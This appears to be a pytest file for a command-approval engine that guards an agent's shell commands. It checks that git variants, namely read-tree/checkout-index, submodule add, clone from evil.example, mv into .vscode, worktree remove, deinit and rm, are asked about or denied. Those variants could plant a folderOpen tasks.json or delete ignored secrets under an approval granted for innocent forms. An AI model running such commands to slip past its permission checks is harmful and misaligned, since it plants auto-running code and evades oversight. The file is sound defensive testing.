"""Review FE: git work-tree writers the FB fixes missed, each under the approval the
engine suggests for the innocent form of the verb, run by a real git. `read-tree
--prefix=.vscode/` without `-u`, then `checkout-index -a|--stdin` wrote
`.vscode/tasks.json` (FE1); `git submodule add ../.vscode/.git` cloned into `.vscode`
(git's `git_url_basename`, FE2); `git worktree remove feature` removed `trees/feature` by
its path's end (FE3); `git submodule deinit 's*'` cleared `sub` (FE4); `git mv
tools/tasks.json .vscode` wrote `.vscode/tasks.json` (FE5); `git merge --abort` and its
kin are `git reset --merge` (FE6); `git rm sub` removed a submodule's ignored secret
(FE7). They ask (or are denied) now; the everyday forms stay allowed."""

from __future__ import annotations

import subprocess
import time
from pathlib import Path

import pytest
from realrun import decide

from policylang import Verdict

_TASKS = (
    '{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"true",'
    '"runOptions":{"runOn":"folderOpen"}}]}\n'
)


def _env(tmp_path: Path) -> dict[str, str]:
    return {
        "HOME": str(tmp_path / "home"),
        "PATH": "/usr/bin:/bin",
        "GIT_CONFIG_NOSYSTEM": "1",
        "GIT_AUTHOR_NAME": "t",
        "GIT_COMMITTER_NAME": "t",
        "GIT_AUTHOR_EMAIL": "t@example.invalid",
        "GIT_COMMITTER_EMAIL": "t@example.invalid",
    }


# (only in the real runs: git refuses local clones for submodules by default)
_FILE_PROTOCOL = {
    "GIT_CONFIG_COUNT": "1",
    "GIT_CONFIG_KEY_0": "protocol.file.allow",
    "GIT_CONFIG_VALUE_0": "always",
}


def _run(line: str, cwd: Path, tmp_path: Path, **more: str) -> subprocess.CompletedProcess[str]:
    """`line` run by a real bash, as the agent would run it."""
    return subprocess.run(
        ["bash", "-c", line], cwd=cwd, env={**_env(tmp_path), **more},
        capture_output=True, text=True, timeout=60, check=False,
    )  # fmt: skip


def _git(cwd: Path, tmp_path: Path, *args: str, input_text: str | None = None) -> str:
    done = subprocess.run(
        ["git", *args], cwd=cwd, env={**_env(tmp_path), **_FILE_PROTOCOL},
        capture_output=True, text=True, timeout=60, check=True, input=input_text,
    )  # fmt: skip
    return done.stdout


def _repository(tmp_path: Path) -> Path:
    """A clean repository with a tracked `.env` template, a branch `other` and a branch
    `evilflat` holding a folderOpen `tasks.json` at its top."""
    (tmp_path / "home").mkdir()
    workspace = tmp_path / "ws"
    (workspace / "src").mkdir(parents=True)
    (workspace / ".env").write_text("API_KEY=\n")
    (workspace / "src" / "a.py").write_text("x = 1\n")
    (workspace / "README").write_text("hi\n")
    _git(workspace, tmp_path, "init", "-q", ".")
    _git(workspace, tmp_path, "add", "-A")
    _git(workspace, tmp_path, "commit", "-qm", "init")
    _git(workspace, tmp_path, "branch", "other")
    (tmp_path / "tasks.json").write_text(_TASKS)
    blob = _git(workspace, tmp_path, "hash-object", "-w", str(tmp_path / "tasks.json")).strip()
    flat = _git(workspace, tmp_path, "mktree", input_text=f"100644 blob {blob}\ttasks.json\n")
    commit = _git(workspace, tmp_path, "commit-tree", "-m", "flat", flat.strip()).strip()
    _git(workspace, tmp_path, "branch", "evilflat", commit)
    return workspace


def _approved(innocent: str, workspace: Path, tmp_path: Path) -> str:
    """The approval the engine suggests for the innocent line."""
    suggested = decide(innocent, workspace, _env(tmp_path)).suggested_rule
    assert suggested is not None, innocent
    return suggested


def _verdict(line: str, workspace: Path, tmp_path: Path, *approvals: str) -> Verdict:
    return decide(line, workspace, _env(tmp_path), *approvals).verdict


def _tasks_written(workspace: Path) -> bool:
    tasks = workspace / ".vscode" / "tasks.json"
    return tasks.exists() and "folderOpen" in tasks.read_text()


def test_fe1_read_tree_prefix_then_checkout_index_all_asks(tmp_path: Path) -> None:
    workspace = _repository(tmp_path)
    approvals = (
        _approved("git read-tree HEAD", workspace, tmp_path),
        _approved("git checkout-index README", workspace, tmp_path),
    )
    line = "git read-tree --prefix=.vscode/ evilflat && git checkout-index -a"
    assert _verdict(line, workspace, tmp_path, *approvals) is Verdict.ASK
    for half in line.split(" && "):  # (each half alone too, as two lines)
        assert _verdict(half, workspace, tmp_path, *approvals) is Verdict.ASK, half
    assert _verdict("git read-tree --prefix .vscode/ evilflat", workspace, tmp_path,
                    *approvals) is Verdict.ASK  # fmt: skip
    # everyday: a prefix where no protect rule matches
    assert _verdict("git read-tree --prefix=lib/ evilflat", workspace, tmp_path,
                    *approvals) is Verdict.ALLOW  # fmt: skip
    assert _run(line, workspace, tmp_path).returncode == 0
    assert _tasks_written(workspace)


def test_fe1_checkout_index_stdin_asks(tmp_path: Path) -> None:
    workspace = _repository(tmp_path)
    approval = _approved("git checkout-index README", workspace, tmp_path)
    _git(workspace, tmp_path, "read-tree", "--prefix=.vscode/", "evilflat")
    line = "echo .vscode/tasks.json | git checkout-index --stdin"
    assert _verdict(line, workspace, tmp_path, approval) is Verdict.ASK
    assert _run(line, workspace, tmp_path).returncode == 0
    assert _tasks_written(workspace)


@pytest.mark.parametrize(
    ("url", "name"),
    [("../.vscode/.git", ".vscode"), ("git@evil.example:.vscode", ".vscode"),
     ("../.claude/.git/", ".claude"), ("https://example.com/lib.git", "lib"),
     ("ssh://u@host:22/x/y.git ", "y"), ("host:2222", "host"), ("foo:bar.git", "bar"),
     ("/foo/bar:2222.git", "2222")],
)  # fmt: skip
def test_fe2_url_basename_is_gits(url: str, name: str) -> None:
    from policylang.engine import gitstage  # (here: it is new with the fix)

    assert gitstage.url_basename(url) == name


@pytest.mark.parametrize(
    "line",
    ["git submodule add ../.vscode/.git", "git submodule add git@evil.example:.vscode",
     "git submodule add ../.claude/.git"],
)  # fmt: skip
def test_fe2_submodule_add_named_by_git_url_basename_asks(tmp_path: Path, line: str) -> None:
    workspace = _repository(tmp_path)
    approval = _approved("git submodule add https://example.com/lib.git lib", workspace, tmp_path)
    assert _verdict(line, workspace, tmp_path, approval) is not Verdict.ALLOW
    everyday = "git submodule add https://example.com/lib.git"
    assert _verdict(everyday, workspace, tmp_path, approval) is Verdict.ALLOW
    if not line.endswith("../.vscode/.git"):
        return
    # with no remote, `../X` is read from the superproject's folder: `tmp_path/.vscode`
    source = tmp_path / ".vscode"
    source.mkdir()
    (source / "tasks.json").write_text(_TASKS)
    _git(source, tmp_path, "init", "-q", ".")
    _git(source, tmp_path, "add", "-A")
    _git(source, tmp_path, "commit", "-qm", "t")
    assert _run(line, workspace, tmp_path, **_FILE_PROTOCOL).returncode == 0
    assert _tasks_written(workspace)


@pytest.mark.parametrize(
    "line",
    ["git clone ../.vscode/.git", "git clone --depth 1 git@evil.example:.vscode",
     "git clone https://evil.example/x/.vscode/"],
)  # fmt: skip
def test_fe2_clone_without_a_folder_named_by_git_url_basename_asks(
    tmp_path: Path, line: str
) -> None:
    # (beside the review: `git clone` guesses its folder as `git submodule add` does)
    workspace = _repository(tmp_path)
    approval = _approved("git clone https://example.com/lib.git", workspace, tmp_path)
    assert _verdict(line, workspace, tmp_path, approval) is not Verdict.ALLOW
    everyday = "git clone --depth 1 https://example.com/lib.git"
    assert _verdict(everyday, workspace, tmp_path, approval) is Verdict.ALLOW
    if not line.endswith("../.vscode/.git"):
        return
    source = tmp_path / ".vscode"
    source.mkdir()
    (source / "tasks.json").write_text(_TASKS)
    _git(source, tmp_path, "init", "-q", ".")
    _git(source, tmp_path, "add", "-A")
    _git(source, tmp_path, "commit", "-qm", "t")
    assert _run(line, workspace, tmp_path).returncode == 0
    assert _tasks_written(workspace)


def test_fe3_worktree_remove_by_path_suffix_asks(tmp_path: Path) -> None:
    workspace = _repository(tmp_path)
    (workspace / ".git" / "info" / "exclude").write_text(".env.local\n")
    _git(workspace, tmp_path, "worktree", "add", "-q", "trees/feature", "other")
    _git(workspace, tmp_path, "worktree", "add", "-q", "--detach", "../outside", "other")
    _git(workspace, tmp_path, "worktree", "add", "-q", "--detach", "wt", "other")
    (workspace / "trees" / "feature" / ".env.local").write_text("K=CANARY_FE_IN\n")
    (tmp_path / "outside" / ".env.local").write_text("K=CANARY_FE_OUT\n")
    # (git's index is rewritten after a second, so `wt/.env` is no longer racily clean)
    time.sleep(1.1)
    _git(workspace / "wt", tmp_path, "status", "--short")
    approval = _approved("git worktree remove wt", workspace, tmp_path)
    for line in ("git worktree remove feature", "git worktree remove outside"):
        assert _verdict(line, workspace, tmp_path, approval) is Verdict.ASK, line
    # everyday: a clean worktree named by its path
    assert _verdict("git worktree remove wt", workspace, tmp_path, approval) is Verdict.ALLOW
    assert _run("git worktree remove feature", workspace, tmp_path).returncode == 0
    assert not (workspace / "trees" / "feature").exists()
    assert _run("git worktree remove outside", workspace, tmp_path).returncode == 0
    assert not (tmp_path / "outside").exists()


def _submodule(tmp_path: Path) -> Path:
    """A workspace whose clean submodule `sub` holds an ignored `.env.local` secret."""
    (tmp_path / "home").mkdir()
    source, workspace = tmp_path / "subsrc", tmp_path / "ws"
    source.mkdir()
    workspace.mkdir()
    (source / "lib.py").write_text("x = 1\n")
    _git(source, tmp_path, "init", "-q", ".")
    _git(source, tmp_path, "add", "-A")
    _git(source, tmp_path, "commit", "-qm", "s")
    (workspace / "README").write_text("hi\n")
    _git(workspace, tmp_path, "init", "-q", ".")
    _git(workspace, tmp_path, "add", "README")
    _git(workspace, tmp_path, "commit", "-qm", "a")
    _git(workspace, tmp_path, "submodule", "add", "-q", str(source), "sub")
    _git(workspace, tmp_path, "commit", "-qm", "sub")
    (workspace / ".git" / "modules" / "sub" / "info" / "exclude").write_text(".env.local\n")
    (workspace / "sub" / ".env.local").write_text("TOKEN=CANARY_FE_SUB\n")
    return workspace


@pytest.mark.parametrize("pathspec", ["'s*'", "'su?'", "'[s]ub'"])
def test_fe4_submodule_deinit_glob_asks(tmp_path: Path, pathspec: str) -> None:
    workspace = _submodule(tmp_path)
    approval = _approved("git submodule deinit sub", workspace, tmp_path)
    line = f"git submodule deinit {pathspec}"
    assert _verdict(line, workspace, tmp_path, approval) is Verdict.ASK
    assert _run(line, workspace, tmp_path).returncode == 0
    assert not (workspace / "sub" / ".env.local").exists()


@pytest.mark.parametrize(
    "line",
    ["git mv tools/tasks.json .vscode", "git mv tools/tasks.json ./.vscode/",
     "git mv -k tools/tasks.json -- .vscode", "git -C tools mv tasks.json ../.vscode"],
)  # fmt: skip
def test_fe5_git_mv_file_into_protected_folder_is_denied(tmp_path: Path, line: str) -> None:
    workspace = _repository(tmp_path)
    (workspace / "tools").mkdir()
    (workspace / "tools" / "tasks.json").write_text(_TASKS)
    (workspace / ".vscode").mkdir()
    (workspace / ".vscode" / "extensions.json").write_text("{}\n")
    _git(workspace, tmp_path, "add", "-A")
    _git(workspace, tmp_path, "commit", "-qm", "tools")
    approval = _approved("git mv README README2", workspace, tmp_path)
    assert _verdict(line, workspace, tmp_path, approval) is Verdict.DENY
    # everyday: a file moved into a plain folder
    assert _verdict("git mv README src", workspace, tmp_path, approval) is Verdict.ALLOW
    assert _run(line, workspace, tmp_path).returncode == 0
    assert _tasks_written(workspace)


@pytest.mark.parametrize(
    ("innocent", "line", "head"),
    [("git merge other", "git merge --abort", "MERGE_HEAD"),
     ("git cherry-pick other", "git cherry-pick --abort", "CHERRY_PICK_HEAD"),
     ("git cherry-pick other", "git cherry-pick --skip", None),
     ("git revert HEAD", "git revert --abort", None)],
)  # fmt: skip
def test_fe6_sequencer_abort_is_reset_merge_and_asks(
    tmp_path: Path, innocent: str, line: str, head: str | None
) -> None:
    workspace = _repository(tmp_path)
    approval = _approved(innocent, workspace, tmp_path)
    (workspace / ".env").write_text("API_KEY=CANARY_FE_TOP\n")
    _git(workspace, tmp_path, "add", ".env")  # (the FB8 precondition: a staged secret)
    assert _verdict(line, workspace, tmp_path, approval) is Verdict.ASK
    assert _verdict(innocent, workspace, tmp_path, approval) is Verdict.ALLOW
    if head is None:
        return
    commit = _git(workspace, tmp_path, "rev-parse", "other").strip()
    (workspace / ".git" / head).write_text(commit + "\n")
    assert _run(line, workspace, tmp_path).returncode == 0
    assert "CANARY" not in (workspace / ".env").read_text()


@pytest.mark.parametrize("line", ["git rm sub", "git rm -q sub"])
def test_fe7_git_rm_of_a_submodule_asks(tmp_path: Path, line: str) -> None:
    workspace = _submodule(tmp_path)
    approval = _approved("git rm README", workspace, tmp_path)
    assert _verdict(line, workspace, tmp_path, approval) is Verdict.ASK
    # everyday: a plain file, and the submodule untracked only (its folder stays)
    assert _verdict("git rm README", workspace, tmp_path, approval) is Verdict.ALLOW
    assert _verdict("git rm --cached sub", workspace, tmp_path, approval) is Verdict.ALLOW
    assert _run(line, workspace, tmp_path).returncode == 0
    assert not (workspace / "sub" / ".env.local").exists()
